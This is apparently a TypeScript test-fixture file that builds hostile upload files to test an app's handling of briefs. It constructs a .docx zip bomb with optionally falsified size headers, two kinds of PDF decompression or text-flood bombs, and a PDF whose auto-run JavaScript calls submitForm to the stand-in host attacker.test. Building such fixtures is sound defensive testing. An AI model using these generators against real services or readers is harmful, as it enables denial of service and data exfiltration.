import { createDeflate, createDeflateRaw, crc32, deflateRawSync } from 'node:zlib';

/*
 * Hostile brief files, built byte by byte in the test: a .docx zip bomb, PDFs with a script or a decompression
 * bomb. Large runs are compressed as a stream, so making a bomb never holds its unpacked size in memory.
 */

interface ZipEntry {
  name: string;
  /** The deflated bytes, and what they unpack to. */
  data: Buffer;
  crc: number;
  size: number;
}

/** Deflates `head`, then `repeat` copies of `chunk`, then `tail`, without ever holding the whole. */
async function deflateRun(
  raw: boolean,
  head: string,
  chunk: Buffer,
  repeat: number,
  tail: string,
): Promise<{ data: Buffer; crc: number; size: number }> {
  const stream = raw ? createDeflateRaw({ level: 9 }) : createDeflate({ level: 9 });
  const out: Buffer[] = [];
  stream.on('data', (c: Buffer) => out.push(c));
  const done = new Promise<void>((resolve, reject) => {
    stream.on('end', resolve);
    stream.on('error', reject);
  });
  let crc = 0;
  let size = 0;
  const write = async (bytes: Buffer) => {
    crc = crc32(bytes, crc);
    size += bytes.length;
    if (!stream.write(bytes)) await new Promise((resolve) => stream.once('drain', resolve));
  };
  await write(Buffer.from(head));
  for (let i = 0; i < repeat; i += 1) await write(chunk);
  await write(Buffer.from(tail));
  stream.end();
  await done;
  return { data: Buffer.concat(out), crc, size };
}

function entryOf(name: string, text: string): ZipEntry {
  const bytes = Buffer.from(text);
  return { name, data: deflateRawSync(bytes), crc: crc32(bytes), size: bytes.length };
}

/** A zip archive of deflated entries; `declaredSize` may lie about what an entry unpacks to. */
function zip(entries: ZipEntry[], declaredSize?: (entry: ZipEntry) => number) {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name);
    const size = declaredSize?.(entry) ?? entry.size;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8); // deflate
    local.writeUInt32LE(entry.crc >>> 0, 14);
    local.writeUInt32LE(entry.data.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const record = Buffer.alloc(46);
    record.writeUInt32LE(0x02014b50, 0);
    record.writeUInt16LE(20, 4);
    record.writeUInt16LE(20, 6);
    record.writeUInt16LE(8, 10);
    record.writeUInt32LE(entry.crc >>> 0, 16);
    record.writeUInt32LE(entry.data.length, 20);
    record.writeUInt32LE(size, 24);
    record.writeUInt16LE(name.length, 28);
    record.writeUInt32LE(offset, 42);
    locals.push(local, name, entry.data);
    central.push(record, name);
    offset += local.length + name.length + entry.data.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const CONTENT_TYPES =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Default Extension="xml" ContentType="application/xml"/>' +
  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' +
  '</Types>';
const RELS =
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>' +
  '</Relationships>';
const DOCUMENT_HEAD =
  '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
  '<w:body><w:p><w:r><w:t>';
const DOCUMENT_TAIL = '</w:t></w:r></w:p></w:body></w:document>';

/** A minimal Word document, built as a zip by hand, whose one paragraph is `text`. */
export function minimalDocx(text: string) {
  return zip([
    entryOf('[Content_Types].xml', CONTENT_TYPES),
    entryOf('_rels/.rels', RELS),
    entryOf('word/document.xml', DOCUMENT_HEAD + text + DOCUMENT_TAIL),
  ]);
}

/**
 * A .docx whose document.xml unpacks to `unpackedMb` MB of one letter in one paragraph (a few KB per 10 MB
 * packed). With `lie`, the zip's headers claim the entry unpacks to 1 KB, so only unpacking finds the truth.
 */
export async function docxBomb(unpackedMb: number, { lie = false } = {}) {
  const chunk = Buffer.alloc(1024 * 1024, 'a');
  const bomb = await deflateRun(true, DOCUMENT_HEAD, chunk, unpackedMb, DOCUMENT_TAIL);
  return zip(
    [
      entryOf('[Content_Types].xml', CONTENT_TYPES),
      entryOf('_rels/.rels', RELS),
      { name: 'word/document.xml', ...bomb },
    ],
    lie ? (entry) => (entry.name === 'word/document.xml' ? 1024 : entry.size) : undefined,
  );
}

/** A PDF from numbered object bodies, with a correct cross-reference table. */
function pdf(objects: (string | Buffer)[]) {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let offset = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(offset);
    const bytes = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`),
      Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'),
      Buffer.from('\nendobj\n'),
    ]);
    parts.push(bytes);
    offset += bytes.length;
  });
  const xref =
    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n` +
    offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('') +
    `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${offset}\n%%EOF\n`;
  parts.push(Buffer.from(xref, 'latin1'));
  return Buffer.concat(parts);
}

const stream = (dictionary: string, bytes: Buffer) =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${bytes.length} >>\nstream\n`, 'latin1'),
    bytes,
    Buffer.from('\nendstream', 'latin1'),
  ]);

const textContent = (lines: string[]) =>
  'BT /F1 12 Tf 72 760 Td 16 TL ' +
  lines.map((line) => `(${line.replace(/[()\\]/g, '\\$&')}) Tj T*`).join(' ') +
  ' ET';

export const PDF_SCRIPT = 'app.alert("penwright-pdf-script-ran"); this.submitForm("http://attacker.test/")';

/** A one-page PDF with a text layer that runs JavaScript as soon as it is opened (/OpenAction). */
export function pdfWithOpenActionScript(lines: string[]) {
  return pdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(init) 5 0 R] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >> >>',
    stream('', Buffer.from(textContent(lines), 'latin1')),
    `<< /Type /Action /S /JavaScript /JS (${PDF_SCRIPT.replace(/[()\\]/g, '\\$&')}) >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]);
}

/**
 * A one-page PDF whose content stream unpacks (FlateDecode) to `unpackedMb` MB: one line of text, then spaces.
 * About 1 KB packed per MB unpacked.
 */
export async function pdfFlateBomb(unpackedMb: number) {
  const content = await deflateRun(
    false,
    textContent(['Write 2,000 words on carbon pricing.']),
    Buffer.alloc(1024 * 1024, ' '),
    unpackedMb,
    '',
  );
  return pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    stream('/Filter /FlateDecode', content.data),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]);
}

/**
 * A PDF with no compression at all that still reads as a flood of text: `pages` pages that all draw the same
 * content stream of `linesPerPage` lines. About 90 bytes a page, so 45,000 pages fit under the 5 MB limit and
 * would read as well over 100 MB of text.
 */
export function pdfSharedContentBomb(pages: number, linesPerPage = 60) {
  const line = 'Every page of this brief repeats the same long line of instructions to the writer.';
  const first = 5; // objects 1–4: catalog, page tree, content stream, font
  const kids = Array.from({ length: pages }, (_, i) => `${first + i} 0 R`).join(' ');
  return pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    // Size and font are inherited from the page tree, which keeps each page to about 90 bytes.
    `<< /Type /Pages /Kids [${kids}] /Count ${pages} /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> >>`,
    stream('', Buffer.from(textContent(Array.from({ length: linesPerPage }, () => line)), 'latin1')),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...Array.from({ length: pages }, () => '<< /Type /Page /Parent 2 0 R /Contents 3 0 R >>'),
  ]);
}
